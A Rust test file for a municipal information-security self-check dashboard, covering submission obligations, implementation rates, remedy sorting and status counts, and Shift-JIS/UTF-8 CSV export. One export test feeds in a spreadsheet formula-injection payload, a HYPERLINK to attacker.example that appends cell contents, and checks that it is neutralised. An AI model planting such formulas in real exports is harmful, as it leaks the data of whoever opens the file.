use super::*;
use crate::selfcheck::submission::{PackRef, Respondent, SubmittedAnswer};

fn kobe_roles() -> Vec<Role> {
    toml::from_str::<roles::RoleFile>(include_str!("../../../../../content/packs/kobe/roles.toml")).unwrap().role
}

fn person(no: &str, dept: &str, roles: &[&str]) -> StaffRecord {
    StaffRecord {
        employee_no: no.into(),
        name: format!("職員{no}"),
        kana: None,
        dept_code: dept.into(),
        dept_name: format!("{dept}課"),
        employment: None,
        roles: roles.iter().map(|r| r.to_string()).collect(),
        hired_on: None,
        left_on: None,
        email: None,
    }
}

fn questionnaire(role: &str, name: &str, n: usize) -> QuestionnaireInfo {
    QuestionnaireInfo {
        role: role.into(),
        role_name: name.into(),
        items: (1..=n).map(|i| ItemInfo { id: format!("q{i}"), question: format!("{name}の質問{i}"), chapter: format!("第{}章", i.div_ceil(2)) }).collect(),
    }
}

fn sub(year: i32, no: &str, dept: &str, role: &str, answers: &[Answer]) -> Submission {
    Submission {
        pack: PackRef { id: "kobe".into(), version: "1".into(), content_hash: "00".into() },
        year,
        role: role.into(),
        role_name: role.into(),
        respondent: Respondent { employee_no: no.into(), name: format!("職員{no}"), dept_code: dept.into(), dept_name: format!("{dept}課") },
        version: 1,
        started_at: format!("{year}-06-01T00:00:00Z"),
        submitted_at: format!("{year}-06-02T00:00:00Z"),
        answers: answers
            .iter()
            .enumerate()
            .map(|(i, &answer)| SubmittedAnswer {
                item_id: format!("q{}", i + 1),
                answer,
                comment: String::new(),
                remedy: if answer.needs_remedy() { format!("改善{}", i + 1) } else { String::new() },
                due: answer.needs_remedy().then(|| format!("{}-{:02}-01", year, 12 - i % 12)),
            })
            .collect(),
        progress: Vec::new(),
    }
}

use Answer::{Implemented as I, NotApplicable as NA, NotImplemented as N, Partial as P};

#[test]
fn who_must_submit_by_department_and_role() {
    let roles = kobe_roles();
    let staff = vec![
        person("1", "A", &["課長"]),                 // 情報管理者 (alias)
        person("2", "A", &[]),                       // no role with a questionnaire
        person("3", "B", &["情報管理者", "管理者"]), // same role twice: one obligation
        person("4", "B", &["業務システム管理者"]),   // role without questionnaire
    ];
    let qs = vec![questionnaire("info-manager", "情報管理者", 4)];
    let subs = vec![sub(2025, "1", "A", "info-manager", &[I, I, P, NA]), sub(2025, "9", "C", "info-manager", &[N, I, I, I])];
    let d = dashboard(&DashboardInput {
        year: 2025,
        staff: &staff,
        roles: &roles,
        questionnaires: &qs,
        submissions: &subs,
        previous: &[],
        today: chrono::NaiveDate::from_ymd_opt(2025, 10, 1).unwrap(),
    });
    assert_eq!((d.required, d.submitted, d.unexpected), (2, 1, 1));
    assert_eq!(d.pending.iter().map(|o| o.employee_no.as_str()).collect::<Vec<_>>(), ["3"]);
    assert_eq!(d.done[0].version, Some(1));
    let a = &d.departments[0];
    assert_eq!((a.code.as_str(), a.required, a.submitted), ("A", 1, 1));
    assert_eq!(d.departments.iter().map(|d| d.code.as_str()).collect::<Vec<_>>(), ["A", "B", "C"]);
    assert_eq!((d.roles[0].required, d.roles[0].submitted), (2, 1));
    // 実施 5 of 7 counted (該当なし left out).
    assert_eq!(d.overall.rate, Some(71.4));
    assert_eq!(a.tally.rate, Some(66.7));
    assert_eq!(d.departments[1].tally.rate, None, "nothing submitted for B");
    assert_eq!(d.departments[2].tally.rate, Some(75.0));
    assert_eq!(d.previous_rate, None);
}

#[test]
fn everyone_must_answer_the_staff_questionnaire() {
    let roles = kobe_roles();
    let staff = vec![person("1", "A", &["課長"]), person("2", "A", &[]), person("3", "B", &[])];
    let qs = vec![questionnaire("info-manager", "情報管理者", 2), questionnaire("staff", "職員等", 2)];
    let subs = vec![sub(2025, "2", "A", "staff", &[I, I])];
    let d = dashboard(&DashboardInput {
        year: 2025,
        staff: &staff,
        roles: &roles,
        questionnaires: &qs,
        submissions: &subs,
        previous: &[],
        today: chrono::NaiveDate::from_ymd_opt(2025, 10, 1).unwrap(),
    });
    assert_eq!((d.required, d.submitted), (4, 1));
    let staff_row = d.roles.iter().find(|r| r.role == "staff").unwrap();
    assert_eq!((staff_row.required, staff_row.submitted), (3, 1));
    assert_eq!(d.unexpected, 0);
}

#[test]
fn rates_per_chapter_and_item_with_the_previous_year_beside() {
    let roles = kobe_roles();
    let staff = vec![person("1", "A", &["課長"]), person("2", "B", &["課長"])];
    let qs = vec![questionnaire("info-manager", "情報管理者", 4)];
    let now = vec![sub(2025, "1", "A", "info-manager", &[I, I, P, N]), sub(2025, "2", "B", "info-manager", &[I, N, I, NA])];
    let before = vec![sub(2024, "1", "A", "info-manager", &[N, N, N, N])];
    let d = dashboard(&DashboardInput {
        year: 2025,
        staff: &staff,
        roles: &roles,
        questionnaires: &qs,
        submissions: &now,
        previous: &before,
        today: chrono::NaiveDate::from_ymd_opt(2025, 10, 1).unwrap(),
    });
    assert_eq!((d.year_label.as_str(), d.previous_year_label.as_str()), ("令和7年度", "令和6年度"));
    assert_eq!(d.chapters.iter().map(|c| c.chapter.as_str()).collect::<Vec<_>>(), ["第1章", "第2章"]);
    assert_eq!(d.chapters[0].tally.rate, Some(75.0)); // q1, q2: I I I N
    assert_eq!(d.chapters[1].tally.rate, Some(33.3)); // q3, q4: P N I (NA out)
    assert_eq!(d.chapters[0].previous_rate, Some(0.0));
    assert_eq!(d.items[0].tally.rate, Some(100.0));
    assert_eq!(d.items[3].tally.rate, Some(0.0));
    assert_eq!(d.items[3].tally.not_applicable, 1);
    assert_eq!(d.previous_rate, Some(0.0));
    assert_eq!(d.departments[0].previous_rate, Some(0.0));
    assert_eq!(d.departments[1].previous_rate, None);
    // 改善策: 3 rows, by 期限.
    assert_eq!(d.remedies.len(), 3);
    let dues: Vec<&str> = d.remedies.iter().map(|r| r.due.as_deref().unwrap()).collect();
    assert_eq!(dues, ["2025-09-01", "2025-10-01", "2025-11-01"]);
    assert_eq!(d.remedies[0].question, "情報管理者の質問4");
}

#[test]
fn remedies_sort_and_export() {
    let roles = kobe_roles();
    let qs = vec![questionnaire("info-manager", "情報管理者", 3)];
    let subs = vec![sub(2025, "2", "B", "info-manager", &[P, N, I]), sub(2025, "1", "A", "info-manager", &[N, I, P])];
    let d = dashboard(&DashboardInput {
        year: 2025,
        staff: &[],
        roles: &roles,
        questionnaires: &qs,
        submissions: &subs,
        previous: &[],
        today: chrono::NaiveDate::from_ymd_opt(2025, 10, 1).unwrap(),
    });
    let mut rows = d.remedies.clone();
    sort_remedies(&mut rows, RemedySort::Department, false);
    assert_eq!(rows.iter().map(|r| (r.dept_code.as_str(), r.item_id.as_str())).collect::<Vec<_>>(), [("A", "q3"), ("A", "q1"), ("B", "q2"), ("B", "q1")]);
    sort_remedies(&mut rows, RemedySort::Department, true);
    assert_eq!(rows[0].dept_code, "B");
    sort_remedies(&mut rows, RemedySort::Answer, false);
    assert!(rows[..2].iter().all(|r| r.answer == N));
    sort_remedies(&mut rows, RemedySort::Item, false);
    assert_eq!(rows[0].item_id, "q1");

    let headers = [
        "所属コード",
        "所属名",
        "職員番号",
        "氏名",
        "役割",
        "章",
        "項目",
        "質問",
        "回答",
        "改善策",
        "期限",
        "備考",
        "状況",
        "状況の日付",
        "状況の記録",
        "期限超過",
    ];
    let status = |s: RemedyStatus| format!("{s:?}");
    let label = |a: Answer| if a == P { "一部実施".to_owned() } else { "実施していない".to_owned() };
    let sjis = remedies_csv(&rows, true, headers, &label, &status, "期限超過");
    let (text, _, bad) = encoding_rs::SHIFT_JIS.decode(&sjis);
    assert!(!bad);
    assert!(text.starts_with("所属コード,所属名,") && text.contains("\r\n") && text.contains("一部実施"));
    assert_eq!(text.lines().count(), 5);
    let bom = remedies_csv(&rows, false, headers, &label, &status, "期限超過");
    assert!(bom.starts_with(&[0xEF, 0xBB, 0xBF]));

    // The outside review's 改善策 (issue 13, finding 3): text, not a live formula.
    rows[0].remedy = "=HYPERLINK(\"http://attacker.example/?q=\"&B2&C2,\"詳細\")".into();
    rows[0].comment = "-1+2".into();
    rows[0].name = "+81-3".into();
    let text = String::from_utf8(remedies_csv(&rows, false, headers, &label, &status, "期限超過")[3..].to_vec()).unwrap();
    assert!(text.contains("\"'=HYPERLINK(\"\"http://attacker.example/?q=\"\"&B2&C2,\"\"詳細\"\")\""), "{text}");
    assert!(text.contains(",'-1+2,") && text.contains(",'+81-3,"), "{text}");
}

#[test]
fn the_bundled_questionnaires_have_role_names_and_chapters() {
    let library = crate::pack::library::PackLibrary::load(None);
    let pack = library.get("kobe").unwrap();
    let qs = questionnaires_of(pack);
    assert_eq!(qs.len(), pack.questionnaires.len());
    let sup = qs.iter().find(|q| q.role == "supervisor").expect("kobe has a supervisor questionnaire");
    assert_eq!(sup.role_name, "情報セキュリティ統括責任者");
    assert!(sup.items.iter().all(|i| !i.chapter.is_empty() && !i.question.is_empty()), "{:?}", sup.items.first());
    // The roster label 統括責任者 finds it.
    let staff = [person("1", "A", &["統括責任者"])];
    let must = who_must_submit(&staff, &pack.roles, &qs);
    assert!(must.iter().any(|(_, q)| q.role == "supervisor"), "{must:?}");
}

#[test]
fn twenty_thousand_staff_and_five_hundred_submissions_are_quick() {
    let roles = kobe_roles();
    let staff = crate::demo::organisation(400, 20_000, chrono::NaiveDate::from_ymd_opt(2025, 10, 1).unwrap(), 3);
    let qs = vec![questionnaire("info-manager", "情報管理者", 60), questionnaire("staff", "職員等", 30)];
    let pattern = [I, I, I, P, N, NA];
    let subs: Vec<Submission> = staff
        .iter()
        .take(500)
        .enumerate()
        .map(|(k, p)| {
            let role = if k < 400 { "info-manager" } else { "staff" };
            let n = if role == "staff" { 30 } else { 60 };
            let answers: Vec<Answer> = (0..n).map(|i| pattern[(i + p.employee_no.len()) % pattern.len()]).collect();
            sub(2025, &p.employee_no, &p.dept_code, role, &answers)
        })
        .collect();
    let t = std::time::Instant::now();
    let d = dashboard(&DashboardInput {
        year: 2025,
        staff: &staff,
        roles: &roles,
        questionnaires: &qs,
        submissions: &subs,
        previous: &subs,
        today: chrono::NaiveDate::from_ymd_opt(2025, 10, 1).unwrap(),
    });
    let took = t.elapsed();
    assert_eq!(d.required, 20_000 + 400);
    assert_eq!(d.submitted, 500);
    // Debug build, shared CI machine: generous; the release figure is in the benchmark.
    assert!(took.as_millis() < 3000, "{took:?}");
}

/// Issue 18: 完了率 and 期限超過, the same whether the 改善策 are listed (this
/// 年度) or only counted (the previous one's 改善の状況).
#[test]
fn remedies_are_counted_by_status_with_overdue_past_the_due_date_unless_done_or_withdrawn() {
    use crate::selfcheck::submission::RemedyProgress;
    let roles = kobe_roles();
    let qs = vec![questionnaire("info-manager", "情報管理者", 4)];
    // Dues: q1 2025-12-01, q2 2025-11-01, q3 2025-10-01 (see `sub`).
    let mut s = sub(2025, "1", "A", "info-manager", &[N, P, N, I]);
    let at = |item: &str, status| RemedyProgress { item_id: item.into(), status, on: "2025-11-30".into(), note: String::new() };
    s.progress = vec![at("q2", RemedyStatus::Done), at("q3", RemedyStatus::InProgress)];
    let today = chrono::NaiveDate::from_ymd_opt(2025, 11, 15).unwrap();
    let subs = vec![s];
    let d = dashboard(&DashboardInput { year: 2025, staff: &[], roles: &roles, questionnaires: &qs, submissions: &subs, previous: &subs, today });
    let c = d.remedy_counts;
    // q1: 未着手, not yet due; q2: 完了 (past due, not overdue); q3: 対応中 and past due → 期限超過.
    assert_eq!((c.total, c.not_started, c.in_progress, c.done, c.withdrawn, c.overdue), (3, 1, 1, 1, 0, 1));
    assert_eq!(c.done_rate, Some(33.3));
    assert_eq!(d.previous_remedy_counts, Some(c), "counting without listing agrees");
    let q3 = d.remedies.iter().find(|r| r.item_id == "q3").unwrap();
    assert!(q3.overdue && q3.status == RemedyStatus::InProgress);
    assert_eq!(d.departments.iter().find(|x| x.code == "A").unwrap().remedy_counts, c);
}
